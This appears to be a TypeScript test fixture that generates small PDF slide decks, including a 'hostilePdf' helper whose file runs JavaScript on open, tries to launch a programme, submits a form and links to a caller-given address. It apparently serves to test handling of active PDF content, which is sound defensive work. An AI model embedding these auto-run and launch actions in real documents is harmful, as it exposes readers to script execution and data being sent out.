import { text } from './slide-files.ts';

export interface Talk {
  /** One page per title, in a font that every reader has to bring along itself. */
  titles: readonly string[];
  /** Further entries of the catalogue, for example something to do when it is opened. */
  catalogue?: string;
  /** Further entries of every page. */
  page?: string;
  /** Objects that those refer to, numbered from 3 plus twice the number of pages on. */
  objects?: readonly string[];
}

/** A PDF of a few wide pages, each with its title in large letters. */
export function talkPdf({ titles, catalogue = '', page = '', objects = [] }: Talk): Uint8Array<ArrayBuffer> {
  const kids = titles.map((_, index) => `${4 + index * 2} 0 R`).join(' ');
  const pages = titles.flatMap((title, index) => {
    const content = `BT /F1 64 Tf 60 300 Td (${title}) Tj ET`;
    return [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 960 540] /Resources << /Font << /F1 3 0 R >> >>` +
        ` /Contents ${5 + index * 2} 0 R ${page} >>`,
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ];
  });
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${titles.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...pages,
    ...objects,
  ];
  let file = '%PDF-1.4\n';
  const offsets = all.map((object, index) => {
    const offset = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const trailer = `trailer << /Size ${all.length + 1} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF`;
  return text(`${file}xref\n0 ${all.length + 1}\n0000000000 65535 f \n${offsets.join('')}${trailer}`);
}

/** A talk that would like to run a script, start a programme, send itself away and lead elsewhere. */
export const hostilePdf = (elsewhere: string): Uint8Array<ArrayBuffer> =>
  talkPdf({
    titles: ['Trust me'],
    catalogue: `/OpenAction << /S /JavaScript /JS (app.alert\\('run'\\); this.submitForm\\('${elsewhere}'\\)) >> /AcroForm << /Fields [6 0 R] /NeedAppearances true >>`,
    page: `/AA << /O << /S /Launch /F (${elsewhere}) >> >> /Annots [6 0 R 7 0 R]`,
    objects: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 960 540] /A << /S /SubmitForm /F << /FS /URL /F (${elsewhere}) >> >> >>`,
      `<< /Type /Annot /Subtype /Link /Rect [0 0 960 540] /A << /S /URI /URI (${elsewhere}) >> >>`,
    ],
  });
